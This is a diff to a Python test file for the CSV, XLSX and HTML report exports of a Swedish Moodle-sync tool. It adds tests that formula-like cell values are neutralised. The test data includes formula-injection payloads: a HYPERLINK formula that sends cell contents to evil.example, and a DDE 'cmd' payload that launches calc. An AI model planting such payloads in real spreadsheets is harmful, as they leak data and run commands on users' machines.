@@ -28,6 +28,7 @@ from moodle_sync.reports import (
 )
 
 D = datetime.date
+SECRET = b"test secret"
 NASTY = "Län <&> \"citat\" 'x'"
 
 
@@ -112,7 +113,8 @@ def test_xlsx_loads_back_with_numbers_markers_and_notes(table: Table, tmp_path: 
 
 
 def test_xlsx_of_a_report_has_an_about_sheet_and_one_sheet_per_table(tmp_path: Path) -> None:
-    report = uppfoljning(many(1, 12) + many(50, 8, completed_on=D(2024, 2, 2)), labels=LABELS, as_of=AS_OF)
+    report = uppfoljning(many(1, 12) + many(50, 8, completed_on=D(2024, 2, 2)), labels=LABELS, as_of=AS_OF,
+                         secret=SECRET)
     path = tmp_path / "r.xlsx"
     to_xlsx(report, path)
     book = openpyxl.load_workbook(path)
@@ -158,7 +160,7 @@ def nasty_report_html() -> str:
     labels = Labels(counties={"W": NASTY}, target_groups=LABELS.target_groups, courses=LABELS.courses)
     facts = many(1, 12, organisation=NASTY, completed_on=D(2024, 3, 3)) + many(50, 9, county="C") \
         + many(80, 2, county="AB", completed_on=D(2024, 4, 4)) + [done(90, D(2024, 5, 5), county="AB")]
-    report = uppfoljning(facts, labels=labels, as_of=AS_OF)
+    report = uppfoljning(facts, labels=labels, as_of=AS_OF, secret=SECRET)
     report.tables.append(suppress(build_table(facts, dimensions=["organisation"], as_of=AS_OF)))
     return html_document(report)
 
@@ -190,7 +192,8 @@ def test_html_escapes_every_name() -> None:
 
 
 def test_html_has_title_date_notes_charts_then_tables() -> None:
-    report = uppfoljning(many(1, 20) + many(50, 10, completed_on=D(2024, 2, 2)), labels=LABELS, as_of=AS_OF)
+    report = uppfoljning(many(1, 20) + many(50, 10, completed_on=D(2024, 2, 2)), labels=LABELS, as_of=AS_OF,
+                         secret=SECRET)
     page = html_document(report)
     assert f"<h1>{report.title}</h1>" in page and "Skapad 2024-06-30" in page
     assert "visas som &lt;5" in page
@@ -224,3 +227,40 @@ def test_to_html_writes_utf8(tmp_path: Path, table: Table) -> None:
     to_html(table, path, title="Rapport för Dalarna", generated_on=D(2024, 7, 1))
     page = path.read_text(encoding="utf-8")
     assert "<title>Rapport för Dalarna</title>" in page and "Skapad 2024-07-01" in page
+
+
+# --- nothing a spreadsheet program would run ------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Falu kommun")', "+SUM(1,2)", "-2+3", "@SUM(A1)",
+            "\t=1+1", "\r=1+1"]
+
+
+def formula_table() -> Table:
+    facts = [f for i, name in enumerate(FORMULAS) for f in many(10 * i + 1, 6, organisation=name)]
+    return build_table(facts, dimensions=["organisation"], as_of=AS_OF, labels=LABELS,
+                       measures=("enrolled",), title="=cmd|' /C calc'!A0")
+
+
+def test_csv_cells_never_start_like_a_formula() -> None:
+    stream = io.StringIO()
+    to_csv(formula_table(), stream)
+    rows = list(csv.reader(io.StringIO(stream.getvalue().lstrip("\ufeff"), newline=""), delimiter=";"))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    organisations = {row[0] for row in rows[1:7]}
+    assert organisations == {"'" + name for name in FORMULAS}      # shown as text, nothing lost
+
+
+def test_xlsx_writes_formula_like_text_as_string_cells(tmp_path: Path) -> None:
+    path = tmp_path / "t.xlsx"
+    to_xlsx(formula_table(), path)
+    import zipfile
+
+    with zipfile.ZipFile(path) as book:
+        sheet = book.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "<f " not in sheet                # no formula anywhere in the sheet
+    ws = openpyxl.load_workbook(path).active
+    assert ws["A1"].value == "=cmd|' /C calc'!A0" and ws["A1"].data_type == "s"
+    names = {ws.cell(row=r, column=1).value: ws.cell(row=r, column=1) for r in range(3, 9)}
+    assert set(names) == {name.replace("\r", "\n") for name in FORMULAS}   # XML reads a CR back as LF
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in names.values())
